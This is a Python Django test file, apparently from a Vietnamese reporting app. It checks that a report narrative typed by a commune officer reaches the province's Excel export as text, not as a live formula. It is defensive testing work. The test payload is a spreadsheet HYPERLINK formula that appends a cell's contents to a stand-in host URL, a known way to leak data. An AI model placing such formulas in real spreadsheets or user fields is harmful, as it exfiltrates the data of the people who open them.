"""What a lower unit typed must reach the upper unit's Excel as text, never as a live formula."""

from __future__ import annotations

import io

import openpyxl
from django.test import Client
from django.urls import reverse

from conftest import People, login
from doanket.reporting.tests.conftest import GOOD, Setup
from doanket.reporting.tests.review.helpers import post, row_of


def test_a_narrative_that_looks_like_a_formula_is_text_in_the_excel_form(
    client: Client, users: People, setup: Setup
) -> None:
    payload = '=HYPERLINK("http://example.invalid/?"&B2,"Xem chi tiết")'
    login(client, users.commune_officer)
    assert post(client, setup.bac_ha, {**GOOD, "v_tinh_hinh": payload}, "save").status_code == 302
    login(client, users.province_officer)
    data = client.get(reverse("reporting:xlsx", args=[setup.bac_ha.pk])).content
    book = openpyxl.load_workbook(io.BytesIO(data))
    cell = book.worksheets[0][f"D{row_of(book, 'tinh_hinh')}"]
    assert cell.value == payload
    assert cell.data_type != "f", "the province's workbook holds the commune's formula"
